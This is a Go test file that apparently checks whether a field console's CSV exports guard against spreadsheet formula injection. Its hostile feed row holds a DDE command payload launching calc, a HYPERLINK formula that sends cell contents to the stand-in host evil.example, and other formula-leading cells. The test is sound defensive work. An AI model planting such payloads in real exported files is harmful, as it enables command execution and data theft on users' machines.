package console_test

import (
	"context"
	"net/http"
	"net/url"
	"testing"
	"time"

	"github.com/fieldsync/fieldsync/server/servertest"
)

// hostileFeed is a feed file as a hostile or careless source could send
// it: cells a spreadsheet would run as formulas, written plainly.
func hostileFeed(unit string) string {
	warned := time.Now().Add(-time.Hour).UTC().Format(time.RFC3339)
	return "external_id,name,phone,address,unit,fraud_type,risk,warned_at\n" +
		`"=cmd|' /C calc'!A0","=HYPERLINK(""http://evil.example/?""&A1,""点此"")",+8613800001234,-1+1,` +
		unit + `,@SUM(1+1),high,` + warned + "\n"
}

// wantGuardedCSV fails unless the CSV text holds the hostile row with each
// of its formula cells behind an apostrophe, and no cell that starts one.
func wantGuardedCSV(t *testing.T, text string, cells ...string) {
	t.Helper()
	seen := map[string]bool{}
	for _, rec := range servertest.GuardedCSV(t, text) {
		for _, cell := range rec {
			seen[cell] = true
		}
	}
	for _, c := range cells {
		if !seen["'"+c] {
			t.Errorf("no cell %q in the export", "'"+c)
		}
	}
}

// A feed row whose cells are formulas comes out of the console's exports
// as text that no spreadsheet runs.
func TestConsole_ExportsGuardFormulas(t *testing.T) {
	srv := setup(t, servertest.Options{})
	center := srv.Login(t, "center1", servertest.CityPassword)
	resp, err := center.ImportFeedCSV(context.Background(), []byte(hostileFeed(servertest.UnitVillA1)))
	if err != nil || len(resp.Created) != 1 {
		t.Fatalf("import: %+v %v", resp, err)
	}
	b, csrf := signedIn(t, srv, "center1")
	r, text := b.do("POST", "/console/export/warnings.csv", url.Values{"csrf": {csrf}}, nil)
	if r.StatusCode != http.StatusOK {
		t.Fatalf("list export: %d", r.StatusCode)
	}
	wantGuardedCSV(t, text, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"点此")`, "+8613800001234", "-1+1", "@SUM(1+1)")
	r, text = b.do("GET", "/console/export/feedback.csv", nil, nil)
	if r.StatusCode != http.StatusOK {
		t.Fatalf("feedback export: %d", r.StatusCode)
	}
	wantGuardedCSV(t, text, `=cmd|' /C calc'!A0`)
}
